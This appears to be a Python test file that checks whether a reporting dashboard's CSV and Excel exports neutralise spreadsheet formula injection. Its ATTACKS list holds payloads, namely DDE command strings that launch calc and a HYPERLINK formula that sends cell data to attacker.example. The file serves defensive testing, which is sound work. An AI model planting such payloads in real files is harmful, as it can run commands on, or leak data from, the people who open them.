"""Formula injection: a value stored in the marts that Excel would run as a formula is written as
text in every CSV and .xlsx the dashboard and the command line hand out.

Each file is written by the real code and read back the way a spreadsheet program sees it: the CSV
with the csv module, the .xlsx with openpyxl (cell type and value).
"""

import csv
import io
import shutil
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest

from dagster_project.reports.cell_text import inert, inert_frame
from dagster_project.reports.rejects import write_rejects_workbook
from dagster_project.reports.result_sheet import COLLEGE_SHEET, write_result_sheet
from dashboards import downloads
from tests.support.serving_fixture import GOOD_FILE, build_serving_db

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["计算机学院", "0012", "https://example.com", "a=b", " =1", "", "（=1）"]


def test_inert_text():
    assert [inert(t) for t in ATTACKS] == ["'" + t for t in ATTACKS]
    assert [inert(t) for t in HARMLESS] == HARMLESS


def frame() -> pl.DataFrame:
    texts = ATTACKS + HARMLESS
    return pl.DataFrame({"value": texts, "n": list(range(-len(texts) // 2, len(texts) - len(texts) // 2))})


def test_inert_frame_leaves_numbers_and_nulls():
    out = inert_frame(pl.DataFrame({"t": ["=1", None, "x"], "n": [-1, 2, 3], "f": [-1.5, None, 0.0]}))
    assert out.to_dict(as_series=False) == {"t": ["'=1", None, "x"], "n": [-1, 2, 3], "f": [-1.5, None, 0.0]}


def test_csv_download_is_text_in_excel():
    content = downloads.csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[0] == ["value", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in ATTACKS] + HARMLESS
    assert [int(r[1]) for r in rows[1:]] == frame()["n"].to_list()  # negative numbers stay numbers


def test_xlsx_download_is_text_in_excel():
    sheet = openpyxl.load_workbook(io.BytesIO(downloads.xlsx_bytes(frame()))).active
    cells = [row for row in sheet.iter_rows(min_row=2, values_only=False)]
    # openpyxl reads an empty string as None and leaves OOXML's escape of a carriage return as it is
    values = [(c[0].value or "").replace("_x000D_", "\r") for c in cells]
    assert values == ["'" + t for t in ATTACKS] + HARMLESS
    assert all(c[0].data_type == "s" for c in cells if c[0].value is not None)
    assert [c[1].value for c in cells] == frame()["n"].to_list()
    assert all(c[1].data_type == "n" for c in cells)


def test_reject_list_is_text_in_excel(tmp_path):
    snapshot = build_serving_db(tmp_path / "serving.duckdb")
    with duckdb.connect(str(snapshot)) as con:
        rows = con.execute(
            "select row_number() over (order by sheet, row_number, column_name) from marts.rejects where source_file = ?",
            [GOOD_FILE],
        ).fetchall()
        assert len(rows) >= 2
        con.execute(
            "update marts.rejects set raw_value = ? where source_file = ? and row_number = "
            "(select min(row_number) from marts.rejects where source_file = ?)",
            [ATTACKS[0], GOOD_FILE, GOOD_FILE],
        )
        con.execute("update marts.rejects set reason = ? where source_file = ?", [ATTACKS[1], GOOD_FILE])
    out = tmp_path / "rejects.xlsx"
    write_rejects_workbook(snapshot, out, source_file=GOOD_FILE)
    sheet = openpyxl.load_workbook(out)["退回清单"]
    header = [c.value for c in sheet[1]]
    cells = list(sheet.iter_rows(min_row=2))
    raw = [row[header.index("原始值")] for row in cells]
    reasons = [row[header.index("原因")] for row in cells]
    assert "'" + ATTACKS[0] in [c.value for c in raw]
    assert {c.value for c in reasons} == {"'" + ATTACKS[1]}
    assert all(c.data_type == "s" for c in raw + reasons if c.value is not None)
    assert not any(str(c.value).startswith("=") for row in cells for c in row if c.value is not None)


@pytest.fixture
def demo_snapshot(demo_home, tmp_path) -> Path:
    path = tmp_path / "serving.duckdb"
    shutil.copy(demo_home[0] / "serving.duckdb", path)
    return path


def test_result_sheet_is_text_in_excel(demo_snapshot, tmp_path):
    with duckdb.connect(str(demo_snapshot)) as con:
        (year,) = con.execute("select max(year) from marts.college_scores where quarter = 4").fetchone()
        con.execute(
            "update marts.college_scores set college_name = ? where college_code = '01'", [ATTACKS[1]]
        )
    out = tmp_path / "result.xlsx"
    write_result_sheet(demo_snapshot, year, out)
    sheet = openpyxl.load_workbook(out)[COLLEGE_SHEET]
    names = [row[1] for row in sheet.iter_rows(min_row=3)]
    attacked = [c for c in names if c.value == "'" + ATTACKS[1]]
    assert len(attacked) == 1 and attacked[0].data_type == "s"
    assert not any(str(c.value).startswith("=") for row in sheet.iter_rows(min_row=3) for c in row if c.value)
